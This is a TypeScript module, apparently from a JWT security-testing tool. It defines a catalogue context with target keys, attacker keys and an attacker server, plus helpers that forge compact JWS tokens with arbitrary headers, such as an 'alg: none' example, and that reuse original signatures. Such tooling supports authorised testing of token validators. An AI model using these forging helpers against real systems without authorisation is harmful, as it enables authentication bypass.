import type { KeyObject } from 'node:crypto';
import type { Jwk } from '../../../token/jwk.js';
import type { AttackAlgorithm, AttackerKeys } from '../attack-signer.js';
import type { AttackerResource } from '../attacker-server.js';
import { encodeSegment, signingInputOf, type JsonObject, type JwsParts } from '../jws-parts.js';

/** A public key of the target, from `--jwks` or derived from `--key`. */
export interface TargetPublicKey {
  /** How the report names it: its `kid`, or where it came from. */
  readonly label: string;
  readonly key: KeyObject;
  readonly jwk: Jwk;
}

/** The target's real signing key, from `--key`. */
export interface RealSigningKey {
  readonly alg: AttackAlgorithm;
  readonly key: KeyObject;
}

/** Everything the catalogue builds tokens from. */
export interface CatalogueContext {
  readonly parts: JwsParts;
  readonly publicKeys: readonly TargetPublicKey[];
  readonly realKey: RealSigningKey | null;
  readonly attackerKeys: AttackerKeys;
  /** Serve a resource on the attacker server; returns its URL. */
  readonly publish: (label: string, resource: AttackerResource) => string;
  /** Now, in seconds since the epoch (NumericDate, RFC 7519 §2). */
  readonly nowSeconds: number;
}

/** Produces the signature of a signing input, or is a ready signature segment. */
export type Signature = ((signingInput: Buffer) => Buffer) | { readonly segment: string };

/**
 * Assemble a compact JWS from any header and payload: objects are JSON-encoded, strings are
 * taken as raw JSON text (duplicate keys, huge numbers), and nothing is checked.
 *
 * @example
 * forgeToken({ alg: 'none' }, parts.payload, { segment: '' });
 */
export function forgeToken(
  header: JsonObject | string,
  payload: JsonObject | string,
  signature: Signature,
): string {
  const headerSegment = encodeSegment(header);
  const payloadSegment = encodeSegment(payload);
  const signatureSegment =
    typeof signature === 'function'
      ? signature(signingInputOf(headerSegment, payloadSegment)).toString('base64url')
      : signature.segment;
  return `${headerSegment}.${payloadSegment}.${signatureSegment}`;
}

/** The valid token's own signature segment, reused on other content. */
export function originalSignature(parts: JwsParts): Signature {
  return { segment: parts.signatureSegment };
}

/** The header of the valid token with `changes` applied (undefined removes a member). */
export function withHeader(parts: JwsParts, changes: JsonObject): JsonObject {
  // An undefined member disappears when the header is JSON-encoded.
  return { ...parts.header, ...changes };
}
